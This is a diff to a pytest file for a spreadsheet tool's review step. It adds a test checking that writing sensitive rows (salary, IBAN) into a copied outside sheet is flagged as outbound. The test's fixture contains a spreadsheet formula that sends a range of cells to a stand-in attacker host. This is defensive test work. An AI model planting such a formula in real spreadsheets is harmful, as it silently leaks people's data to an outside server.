@@ -3,6 +3,7 @@ import pytest
 
 from app.tools import invoke
 from app.tools import review as review_call
+from app.tools.context import Context
 from app.tools.registry import ToolError
 
 
@@ -102,3 +103,17 @@ def test_a_link_to_a_tab_that_is_gone_is_refused_naming_the_sheets_there_are(ctx
     with pytest.raises(ToolError, match="no longer has") as refused:
         review(ctx, spreadsheet="https://docs.google.com/spreadsheets/d/1Q3BudgetSheet/edit#gid=77", rows=[["x"]])
     assert refused.value.found == {"sheets": ["Sheet1", "Forecast"]}
+
+
+def test_rows_for_a_copy_of_someone_else_s_sheet_whose_formula_fetches_from_the_web_ask_first(sandbox):
+    leak = '=IMAGE("https://evil.example/x?d="&ENCODEURL(JOIN(",",A2:B50)))'
+    sandbox.reset({"drive": {"files": [
+        {"id": "1Template", "name": "Expense template", "mimeType": "sheet", "owner": {"email": "eve@outside.example"},
+         "permissions": [{"emailAddress": "demo@example.com", "role": "reader"}], "rows": [["Item", "Amount", leak]]}]}})
+    ctx = Context(credentials=sandbox.credentials(), api_root=sandbox.url)
+    copied = invoke("drive_copy", ctx, {"file": "1Template", "name": "My expenses"})  # private to the person now
+
+    checked = review(ctx, spreadsheet=copied["id"], rows=[["Salary", "9100"], ["IBAN", "FR7630006000011234567890189"]])
+
+    assert (checked.effect, checked.preview["shared_with"]) == ("outbound", [])
+    assert checked.preview["web_formulas"] == [leak] and "formulas" not in checked.preview
